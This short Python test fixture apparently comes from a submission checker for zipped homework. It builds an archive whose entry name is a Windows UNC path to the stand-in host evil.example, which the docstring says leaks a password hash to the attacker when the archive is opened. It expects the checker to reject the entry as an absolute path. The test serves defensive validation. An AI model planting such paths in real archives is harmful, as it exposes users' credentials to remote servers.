"""A UNC path: whoever opens it on Windows tells the attacker's server a password hash."""

from zipping import ANSWER, zipped

MUST = {
    "origin": "Network.zip",
    "status": "unreadable",
    "says": r"entry \\\\evil\.example\\share\\softmax\.py has an absolute path",
}


def hand_in(folder):
    (folder / "Network.zip").write_bytes(zipped(("\\\\evil.example\\share\\softmax.py", ANSWER)))
